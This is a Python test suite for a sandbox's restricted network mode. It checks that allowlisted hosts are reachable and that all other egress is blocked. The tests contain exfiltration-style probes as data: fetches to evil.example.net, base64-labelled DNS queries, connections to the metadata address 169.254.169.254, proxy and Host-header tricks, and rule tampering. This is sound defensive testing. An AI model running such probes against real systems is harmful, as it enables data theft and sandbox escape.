"""Mode `restricted` against a small internet: real clients reach what is allowed, and the sinkhole counts what is not."""

import json
import os
import subprocess
import sys
import time

from support import SandboxTest, sandboxctl, text

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "Internet"))
import internet  # noqa: E402

ALLOWED = ["api.example.org", "allowed.cdn.example.org", "*.wild.example.org", "git.example.org:22"]

# One attempt of each kind from inside: nothing may leave, however it is sent.
PROBE = r"""
import socket
def tcp(family, address, port):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3); s.connect((address, port))
def udp(family, address, port):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3); s.connect((address, port)); s.send(b"x"); s.send(b"x"); s.recv(1)
four, six = socket.AF_INET, socket.AF_INET6
reached = []
for kind, family, address, port in [
        (tcp, four, "203.0.113.66", 80), (tcp, four, "203.0.113.10", 443), (tcp, four, "8.8.8.8", 443),
        (tcp, four, "169.254.169.254", 80), (tcp, four, "10.0.0.1", 80), (tcp, four, "192.168.1.1", 22),
        (tcp, four, "198.51.100.2", 22), (tcp, four, "198.18.200.1", 80), (tcp, four, "224.0.0.251", 80),
        (tcp, six, "2001:db8:1::66", 80), (tcp, six, "::ffff:203.0.113.66", 80), (tcp, six, "64:ff9b::cb00:7142", 80),
        (tcp, six, "2002:cb00:7142::1", 80), (tcp, six, "fd00::1", 80), (tcp, six, "fe80::1", 80),
        (udp, four, "203.0.113.50", 7), (udp, four, "203.0.113.66", 443), (udp, four, "203.0.113.66", 123),
        (udp, four, "198.18.0.1", 443), (udp, six, "2001:db8:1::50", 7), (udp, four, "255.255.255.255", 9)]:
    try:
        kind(family, address, port); reached.append((kind.__name__, address, port))
    except OSError:
        pass
print(reached)
"""


class NetworkTest(SandboxTest):
    @classmethod
    def setUpClass(cls):
        internet.up()

    @classmethod
    def tearDownClass(cls):
        internet.down()

    def setUp(self):
        super().setUp()
        internet.zone()

    def web(self, *hosts, name="web"):
        options = [option for host in hosts or ALLOWED for option in ("--allow", host)]
        return self.create(name, "--network", "restricted", *options)

    def curl(self, *arguments, name="web", check=0):
        return self.inside(f"curl -sS -m 8 {' '.join(arguments)} 2>&1", name, check=check)

    def fails(self, script, name="web"):
        begin = time.monotonic()
        result = sandboxctl("exec", name, "--", "sh", "-c", script)
        self.assertNotEqual(result.returncode, 0, result.stdout)
        self.assertLess(time.monotonic() - begin, 2, "a refusal took its time")
        return (result.stdout + result.stderr).decode()


class Reaching(NetworkTest):
    def test_clients_reach_what_is_allowed_and_nothing_else(self):
        self.web()
        sunk, asked = internet.sunk(), len(internet.questions())
        for scheme in ("http", "https"):
            for option in ("-4", "-6"):
                self.assertIn("api.example.org", self.curl(option, f"{scheme}://api.example.org/"))
        self.assertIn("a.deep.wild", self.curl("https://a.deep.wild.example.org/"))
        nonsense = "export http_proxy=http://192.0.2.1:9 https_proxy=http://192.0.2.1:9 HTTPS_PROXY=http://192.0.2.1:9; "
        for client in ("wget -q -T 5 -t 1 -O - {}", "python3 -c 'import urllib.request as u; print(u.urlopen(\"{}\").read())'",
                       "python3 -c 'import requests; print(requests.get(\"{}\", timeout=5).text)'",
                       "node -e 'fetch(\"{}\").then(r => r.text()).then(console.log)'"):
            with self.subTest(client):
                self.assertIn("api.example.org", self.inside(client.format("https://api.example.org/"), "web"))
                self.fails(client.format("https://evil.example.net/"))
                self.fails(client.format("http://203.0.113.66/"))
                if "node" not in client:  # which reads no such variable
                    self.fails(nonsense + client.format("https://api.example.org/"))
        self.assertIn("SSH-2.0", self.inside("nc -w 3 git.example.org 22 </dev/null | head -c 8", "web"))
        self.assertEqual(internet.sunk(), sunk)
        self.assertFalse([q for q in internet.questions()[asked:] if "evil" in q])

    def test_nothing_leaves_by_any_other_way(self):
        # NET-01 … NET-12 as far as they do not need a link: there is none.
        self.web()
        before = internet.sunk()
        self.assertEqual(self.inside("cat > /tmp/p.py; python3 /tmp/p.py", "web", stdin=PROBE.encode()).strip(), "[]")
        self.assertEqual(internet.sunk(), before)
        # The control: the same program where nothing is refused.
        control = subprocess.run(["python3", "-c", PROBE], capture_output=True, text=True, check=True).stdout
        self.assertIn("203.0.113.66", control)
        self.assertIn("203.0.113.50", control)
        self.assertGreater(internet.sunk(), before)
        denied = json.loads(text("network", "denied", "web", "--json"))
        self.assertTrue({"203.0.113.66", "2001:db8:1::66"} <= {entry["target"] for entry in denied["denials"]})

    def test_two_names_on_one_address(self):
        # The CDN case: PRX-03, PRX-10, PRX-16 by effect, with the control from the host.
        self.web()
        self.assertIn("allowed.cdn", self.curl("https://allowed.cdn.example.org/"))
        there = "--connect-to other.cdn.example.org::allowed.cdn.example.org:"
        self.assertIn("unrecognized name", self.curl(there, "https://other.cdn.example.org/", check=35))
        self.assertIn('"reason":"other-host"', self.curl(there, "http://other.cdn.example.org/"))
        self.assertIn('"reason":"other-host"', self.curl("-H 'Host: other.cdn.example.org'", "http://allowed.cdn.example.org/"))
        second = self.curl("http://allowed.cdn.example.org/", "--next", "-sS", "-H 'Host: other.cdn.example.org'",
                           "http://allowed.cdn.example.org/")
        self.assertEqual((second.count("allowed.cdn"), "network allow web other.cdn.example.org" in second), (1, True))
        control = internet.run("curl", "-sS", "-H", "Host: other.cdn.example.org", "http://allowed.cdn.example.org/").stdout
        self.assertIn("other.cdn", control)

    def test_names_are_asked_for_nowhere_but_here(self):
        # DNS-03, DNS-04, DNS-12, DNS-13: no label leaves, whatever server and type is asked.
        self.web()
        asked = len(internet.questions())
        for name in ("c2VjcmV0.evil.example.net", "c2VjcmV0.api.example.org", "EVIL-api.example.org", "org"):
            self.assertIn("REFUSED", self.inside(f"dig +time=1 +tries=1 @8.8.8.8 {name}; true", "web"))
        for kind in ("TXT", "MX", "NULL", "ANY", "HTTPS", "SRV"):
            answer = self.inside(f"dig +time=1 +tries=1 {'+notcp' if kind == 'ANY' else ''} api.example.org {kind}; true", "web")
            self.assertRegex(answer, "NOERROR(.|\n)*ANSWER: 0")
        self.inside("dig +tcp +time=1 @1.1.1.1 c2VjcmV0.wild.example.org", "web")
        self.assertEqual(internet.questions()[asked:], [])
        self.assertIn("198.18.", self.inside("dig +short API.Example.ORG", "web"))

    def test_a_name_that_leads_to_a_refused_address(self):
        # DNS-06, DNS-07: what may not be reached is not connected to, though the name is allowed.
        self.web()
        for address in ("127.0.0.1", "169.254.169.254", "10.0.0.5", "198.51.100.2"):
            with self.subTest(address):
                internet.zone(entries={"api.example.org": {"A": [address], "ttl": 0}})
                self.assertIn('"reason":"address"', self.curl("http://api.example.org/"))
        internet.zone(entries={"api.example.org": {"A": ["10.0.0.5", "203.0.113.10"], "ttl": 0}})
        self.assertIn("api.example.org", self.curl("http://api.example.org/"))

    def test_an_allowed_host_that_moves(self):
        self.web()
        internet.zone(entries={"api.example.org": {"A": ["203.0.113.10"], "ttl": 0}})
        self.curl("http://api.example.org/")
        internet.zone(entries={"api.example.org": {"CNAME": "x.example.org", "ttl": 0},
                               "x.example.org": {"A": ["203.0.113.60"], "ttl": 0}})
        self.assertIn("api.example.org", self.curl("http://api.example.org/"))

    def test_two_sandboxes_share_nothing(self):
        # DNS-15.
        self.web()
        self.web("git.example.org:22", name="other")
        address = self.inside("dig +short api.example.org", "web").strip()
        self.fails(f"curl -sS -m 5 http://{address}/", "other")
        self.fails("getent hosts api.example.org", "other")


class Changing(NetworkTest):
    STREAM = ("import socket,sys,time\n"
              "s=socket.create_connection(('api.example.org',80)); s.settimeout(20)\n"
              "s.sendall(b'GET /big HTTP/1.1\\r\\nHost: api.example.org\\r\\n\\r\\n')\n"
              "print(len(s.recv(100)), flush=True)\n"
              "try:\n"
              "  while s.recv(1000): time.sleep(.002)\n"
              "except OSError: sys.exit(7)\n")

    def test_what_is_denied_ends_at_once(self):
        # NET-18, NET-19.
        self.web()
        with subprocess.Popen(["sandboxctl", "exec", "web", "--", "python3", "-c", self.STREAM], stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE) as stream:
            stream.stdout.readline()
            self.assertIn("1 connections ended", text("network", "deny", "web", "api.example.org"))
            self.assertEqual(stream.wait(timeout=5), 7)
        self.fails("curl -sS -m 5 http://api.example.org/")
        text("network", "allow", "web", "api.example.org")
        self.curl("http://api.example.org/")

    def test_a_grant_ends_by_itself_and_outlives_the_gateway(self):
        self.web()
        text("network", "allow", "web", "evil.example.net", "--for", "4s")
        end = time.monotonic() + 4
        self.curl("http://evil.example.net/")
        subprocess.run(["systemctl", "kill", "-s", "KILL", "sandboxctl-gateway-web.service"], check=True)
        self.curl("http://evil.example.net/")
        while time.monotonic() < end + 0.1:
            time.sleep(0.05)
        self.fails("curl -sS -m 5 http://evil.example.net/")
        self.assertEqual(text("network", "verify", "web"), "web: ok\n")

    def test_modes_change_while_it_runs_and_last(self):
        self.create("web")
        self.fails("curl -sS -m 5 http://api.example.org/")
        self.assertEqual(sandboxctl("network", "allow", "web", "api.example.org").returncode, 78)
        text("network", "set", "web", "restricted")
        text("network", "allow", "web", "api.example.org")
        self.curl("http://api.example.org/")
        text("reset", "web")
        self.curl("http://api.example.org/")
        text("network", "set", "web", "none")
        self.fails("curl -sS -m 5 http://api.example.org/")
        self.assertEqual(sandboxctl("network", "set", "web", "full").returncode, 69)

    def test_a_foreign_hand_in_the_rules_is_seen(self):
        self.web()
        self.assertEqual(text("network", "verify", "web"), "web: ok\n")
        subprocess.run(["nft", "flush", "ruleset"], check=True)
        self.assertEqual(text("network", "verify", "web"), "web: ok\n")
        inside = ["ip", "netns", "exec", "sandbox-web", "nft"]
        subprocess.run(inside + ["insert", "rule", "inet", "sandbox", "output", "accept"], check=True)
        self.assertEqual(sandboxctl("network", "verify", "web").returncode, 1)
        subprocess.run(inside + ["flush", "ruleset"], check=True)
        self.assertIn(b"missing", sandboxctl("network", "verify", "web").stdout)

    def test_a_gateway_that_is_stopped_or_gone_lets_nothing_through(self):
        self.web()
        self.curl("http://api.example.org/")
        before = internet.sunk()
        unit = "sandboxctl-gateway-web.service"
        subprocess.run(["systemctl", "kill", "-s", "STOP", unit], check=True)
        self.inside("curl -sS -m 1 http://api.example.org/", "web", check=28)
        subprocess.run(["systemctl", "kill", "-s", "CONT", unit], check=True)
        self.curl("http://api.example.org/")
        subprocess.run(["systemctl", "stop", unit.replace(".service", ".socket"), unit], check=True)
        self.fails("curl -sS -m 5 http://api.example.org/")
        self.assertEqual(internet.sunk(), before)
        text("restart", "web")
        self.curl("http://api.example.org/")

    def test_loosening_and_tightening_under_fire(self):
        # Not one packet to a host that was never allowed.
        self.web()
        blast = ("import socket,time\nend=time.time()+8\n"
                 "while time.time()<end:\n"
                 " for a in ('203.0.113.66','8.8.8.8','192.0.2.9'):\n"
                 "  s=socket.socket(); s.setblocking(False); s.connect_ex((a,443)); s.close()\n")
        before = internet.sunk()
        with subprocess.Popen(["sandboxctl", "exec", "web", "--", "python3", "-c", blast], stdin=subprocess.DEVNULL) as shots:
            rounds = 0
            while shots.poll() is None:
                text("network", "deny", "web", "api.example.org")
                text("network", "allow", "web", "api.example.org")
                rounds += 1
        self.assertGreater(rounds, 50)
        self.assertEqual(internet.sunk(), before)

    def test_the_program_that_serves_has_no_rights(self):
        self.web()
        self.curl("http://api.example.org/")
        report = subprocess.run(["systemd-analyze", "security", "--no-pager", "sandboxctl-gateway-web.service"],
                                capture_output=True, text=True, check=True).stdout.strip().splitlines()[-1]
        self.assertLessEqual(float(report.split(":")[1].split()[0]), 2.0, report)
        pid = text_of("systemctl", "show", "-p", "MainPID", "--value", "sandboxctl-gateway-web.service").strip()
        with open(f"/proc/{pid}/status", encoding="utf-8") as file:
            status = dict(line.split(":\t") for line in file.read().splitlines() if ":\t" in line)
        self.assertEqual([status[f"Cap{name}"] for name in ("Inh", "Prm", "Eff", "Bnd", "Amb")], ["0" * 16] * 5)
        self.assertEqual((status["NoNewPrivs"], status["Seccomp"]), ("1", "2"))
        # Identity is the socket: another local user has no way to it.
        self.assertEqual(os.stat("/run/sandboxctl/web/gateway.control").st_mode & 0o777, 0o600)


def text_of(*command):
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout
